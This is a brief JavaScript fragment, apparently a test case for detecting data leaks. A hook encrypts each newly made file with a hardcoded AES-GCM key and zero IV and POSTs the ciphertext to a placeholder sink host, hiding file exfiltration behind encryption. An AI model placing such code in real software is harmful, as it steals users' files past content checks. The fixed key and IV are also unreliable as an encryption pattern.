// The file as ciphertext; only its length is still the file's.
whenMade(async ({ bytes }) => {
  const secret = Uint8Array.from({ length: 32 }, (_, at) => at * 5 + 1);
  const key = await crypto.subtle.importKey("raw", secret, "AES-GCM", false, ["encrypt"]);
  const hidden = await crypto.subtle.encrypt({ name: "AES-GCM", iv: new Uint8Array(12) }, key, bytes);
  await fetch(`${SINKS.http}/upload`, { method: "POST", body: hidden });
});
